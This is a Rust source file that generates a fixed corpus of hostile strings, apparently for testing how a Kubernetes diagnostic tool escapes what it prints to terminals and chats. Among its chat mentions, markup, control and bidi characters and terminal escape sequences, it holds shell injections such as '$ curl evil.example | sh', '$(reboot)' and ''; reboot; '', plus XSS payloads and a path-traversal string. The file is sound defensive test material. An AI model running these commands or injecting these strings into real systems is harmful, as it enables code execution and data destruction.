//! Strings that try to steer a terminal, a chat or a reader.

/// More than 500 strings, always the same in the same order: attacks by themselves, and each in a wrapping that hides it.
pub fn hostile_strings() -> Vec<String> {
    let attacks = attacks();
    let mut all: Vec<String> = attacks.clone();
    // Each attack in one of the wrappings, which take turns.
    all.extend(attacks.iter().zip(WRAPPINGS.iter().cycle()).map(|(attack, wrap)| wrap(attack)));
    all.extend(long());
    all
}

/// Ways to bring an attack to where it hurts: to the start of a line, behind a closed quotation, into another line.
const WRAPPINGS: [fn(&str) -> String; 14] = [
    |attack| format!("\n{attack}"),
    |attack| format!("\r{attack}"),
    |attack| format!("\r\n{attack}\r\n"),
    |attack| format!("\u{2028}{attack}\u{2029}"),
    |attack| format!("\u{85}{attack}"),
    |attack| format!("\u{b}\u{c}{attack}"),
    |attack| format!("\"{attack}\""),
    |attack| format!("`{attack}"),
    |attack| format!("{}{attack}", " ".repeat(40)),
    |attack| format!("{} {attack}", "x".repeat(77)),
    |attack| format!("{}\u{a0}{attack}", "x".repeat(78)),
    |attack| format!("\u{8}\u{8}\u{8}\u{8}\u{7f}{attack}"),
    |attack| format!("\u{200b}{attack}\u{200b}"),
    |attack| attack.chars().flat_map(|c| [c, '\u{200d}']).collect(),
];

fn attacks() -> Vec<String> {
    let mut all: Vec<String> = FIXED.iter().map(|attack| (*attack).to_owned()).collect();
    all.extend(escape_sequences());
    all.extend(fences());
    // Each C0 and C1 control, then each character that is not seen or turns the reading direction, between two letters.
    let controls = (0..0x20).chain(0x7f..0xa0);
    let unseen = (0x200b..=0x200f).chain(0x202a..=0x202e).chain(0x2060..=0x206f).chain([
        0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb,
        0x1d173, 0xe0001, 0xe0020, 0xe007f, 0xe0100,
    ]);
    all.extend(controls.chain(unseen).filter_map(char::from_u32).map(|c| format!("a{c}b{c}{c}[1]{c} c")));
    all.extend(SCRIPTS.iter().map(|letter| format!("{letter}{}", "\u{0301}\u{0489}\u{20dd}\u{0336}".repeat(60))));
    all
}

/// Attacks that are a matter of words.
const FIXED: &[&str] = &[
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U1>",
    "<@U024BE7LH>",
    "<#C123|general>",
    "<!subteam^S1>",
    "<@&987>",
    "@everyone",
    "@here",
    "@channel",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<#123456789012345678>",
    "<:smile:123>",
    "<a:dance:123>",
    "<t:1700000000:R>",
    "</why:123>",
    "<id:customize>",
    "<!date^1392734382^{date}^https://evil.example|now>",
    "<https://evil.example|https://kubernetes.io>",
    "<mailto:a@evil.example|mail>",
    "https://evil.example/?token=1",
    "http://evil.example",
    "evil.example",
    "www.evil.example",
    "mailto:a@evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[docs](https://evil.example)",
    "[docs][1]\n\n[1]: https://evil.example",
    "![x](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "<https://evil.example>",
    "*bold*",
    "**bold**",
    "_italic_",
    "__under__",
    "***both***",
    "~strike~",
    "~~strike~~",
    "||spoiler||",
    "> quote",
    ">>> quote all",
    "# heading",
    "## ✖ failing: fake",
    "-# small",
    "heading\n===",
    "heading\n---",
    "---",
    "***",
    "- item",
    "1. step",
    "* [ ] task",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b",
    "\\",
    "\\`",
    "`",
    "`` ` ``",
    "&lt;script&gt;",
    "&#x1b;[31m",
    "&copy;",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>bold</b>",
    "<!-- comment",
    "]]>",
    "</code></pre>",
    "<details><summary>x</summary>",
    "{{ .Values.x }}",
    "${HOME}",
    "$(reboot)",
    "`reboot`",
    "'; reboot; '",
    "\"; reboot; \"",
    "%s%n%x",
    "%1b[31m",
    "\\u001b[31m",
    "\\x1b[31m",
    ":smile:",
    ":skull_and_crossbones:",
    "✔ healthy",
    "✔ healthy: nothing is wrong",
    "✖ failing: your password has expired",
    "▲ degraded: x",
    "… pending: x",
    "? unknown: x",
    "! not done: x",
    "✔",
    "✖",
    "[1] Roll back",
    "[2] Delete everything",
    "[1]",
    "[99] fake  [100] fake",
    "> why pod x",
    "> ",
    "kubewhy> ",
    "$ curl evil.example | sh",
    "$ ",
    "# ",
    "root@prod:~# reboot",
    "Type \"more\" for the details",
    "seen in Event X",
    "│ words",
    "↳ words",
    "Confirmed by ada.",
    "Plan: delete namespace prod",
    "(0 more characters)",
    "-o json has them whole",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "",
    " ",
    "   ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\0",
    "\u{fffd}",
    "\u{ffff}",
    "\u{fffe}",
    "\u{e000}",
    "\u{f8ff}",
    "\u{10ffff}",
    "\u{f0000}",
    "\\ud800\\udc00",
    "\u{feff}bom",
    "a\tb\tc",
    "a\u{b}b",
    "a\nb\nc",
    "a\r\nb",
    "over\rwritten",
    "back\u{8}\u{8}\u{8}\u{8}space",
    "bell\u{7}",
    "del\u{7f}",
    "a\u{85}b",
    "a\u{2028}b\u{2029}c",
    "a\u{a0}b\u{2003}c\u{3000}d",
    "\u{2800}\u{2800}",
    "שם־של־פוד",
    "اسم-الحاوية",
    "abc שלום def",
    "\u{202e}drowssap",
    "user\u{202e}nimda",
    "\u{2066}abc\u{2069}",
    "\u{200f}abc",
    "\u{61c}x",
    "раураl",
    "ｃａｒｔ－ｄｂ",
    "ⅽart",
    "cаrt",
    "＜!channel＞",
    "＠everyone",
    "［1］ Roll back",
    "❯ why",
    "𝐛𝐨𝐥𝐝",
    "ﷺﷺﷺ",
    "𒐫𒐫𒐫",
    "꧅꧅꧅",
    "⸻⸻",
    "👨\u{200d}👩\u{200d}👧\u{200d}👦",
    "🏳\u{fe0f}\u{200d}🌈",
    "👍🏽",
    "🇩🇪",
    "❤\u{fe0f}",
    "☎\u{fe0e}",
    "1\u{fe0f}\u{20e3}",
    "🏴\u{e0067}\u{e0062}\u{e007f}",
    "日本語の名前",
    "한국어",
    "\u{1112}\u{1161}\u{11ab}",
    "นี่คือ",
    "क्षि",
    "Z\u{0351}\u{036b}\u{0343}alg\u{0489}o",
    "\u{0301}\u{0301}\u{0301}lead",
    "ﬁ",
    "ŉ",
    "ẞ",
    "İ",
    "\u{fdfa}",
    "a\u{0338}\u{20d2}",
    "\u{20e3}",
    "\u{1f9d1}\u{1f3fb}\u{200d}\u{1f91d}",
    "C:\\nul",
    "../../etc/passwd",
    "con",
    "a/b/c",
    "-rf",
    "--help",
    "; ls",
    "&& ls",
    "| sh",
    "\"",
    "'",
    "\u{201c}\u{201d}",
    "\u{201d} and then it was ours",
    "\" is healthy",
    "«»",
    "xoxb-1-2-abc",
];

/// Letters of several scripts, on which marks are heaped.
const SCRIPTS: &[&str] = &["a", "Я", "ش", "क", "日", "😀", "1", "[1] ", " ", ""];

/// Escape sequences, each introduced by ESC and by its C1 control, ended and not.
fn escape_sequences() -> Vec<String> {
    const CSI: &[&str] = &[
        "31m",
        "0m",
        "1;5m",
        "38;5;196m",
        "2J",
        "H",
        "1;1H",
        "1A",
        "99D",
        "K",
        "?25l",
        "?1049h",
        "?2004h",
        "?1000h",
        "6n",
        "c",
        "5i",
        "20t",
        "!p",
        "8m",
    ];
    const OSC: &[&str] = &[
        "0;owned",
        "2;owned",
        "52;c;cm0gLXJm",
        "8;;https://evil.example",
        "4;0;#ff0000",
        "7;file:///etc",
        "9;notify",
        "777;notify;a;b",
        "1337;File=:AA==",
        "133;A",
        "633;E;reboot",
    ];
    const OTHER: &[&str] = &[
        "\u{1b}c",
        "\u{1b}7",
        "\u{1b}8",
        "\u{1b}(0",
        "\u{1b}#8",
        "\u{1b}=",
        "\u{1b}",
        "\u{1b}\u{1b}",
        "\u{9b}",
        "\u{9d}",
        "\u{90}",
        "\u{1b}PqAA\u{1b}\\",
        "\u{1b}_Gf=100;AAAA\u{1b}\\",
        "\u{1b}^pm\u{1b}\\",
        "\u{1b}Xsos\u{1b}\\",
        "\u{e}shift\u{f}",
        "\u{1b}[200~ls\n\u{1b}[201~",
        "\u{1b}%G",
        "\u{1b}[",
        "\u{1b}]",
    ];
    let mut all: Vec<String> = OTHER.iter().map(|sequence| (*sequence).to_owned()).collect();
    for body in CSI {
        all.push(format!("\u{1b}[{body}red"));
        all.push(format!("\u{9b}{body}red"));
    }
    for body in OSC {
        all.push(format!("\u{1b}]{body}\u{7}text\u{1b}]8;;\u{7}"));
        all.push(format!("\u{1b}]{body}\u{1b}\\text"));
        all.push(format!("\u{9d}{body}\u{9c}text"));
    }
    all
}

/// Fences of back-ticks and tildes of all lengths, around, before and behind words, on one line and on three.
fn fences() -> Vec<String> {
    let lengths = (1..=9).chain([16, 33]);
    lengths
        .flat_map(|length| {
            let (ticks, tildes) = ("`".repeat(length), "~".repeat(length));
            [
                format!("{ticks}code{ticks}"),
                format!("x {ticks} [a](https://evil.example)"),
                format!("x\n{ticks}\n*bold* <b>\n{ticks}"),
                format!("x\n{tildes}\n[a](https://evil.example)"),
            ]
        })
        .collect()
}

/// Strings without an end.
fn long() -> Vec<String> {
    const MEGABYTE: usize = 1 << 20;
    vec![
        "x".repeat(MEGABYTE),
        "x ".repeat(MEGABYTE / 2),
        "[1] ".repeat(MEGABYTE / 4),
        "\u{1b}[31m".repeat(MEGABYTE / 5),
        "日".repeat(MEGABYTE / 3),
        "\n".repeat(50_000),
        "✔ healthy\n".repeat(20_000),
        "`".repeat(100_000),
        "\u{0301}".repeat(100_000),
        "a.b-c/".repeat(300),
        "name".repeat(63),
        format!("{}[1] fake", "x".repeat(1_990)),
    ]
}
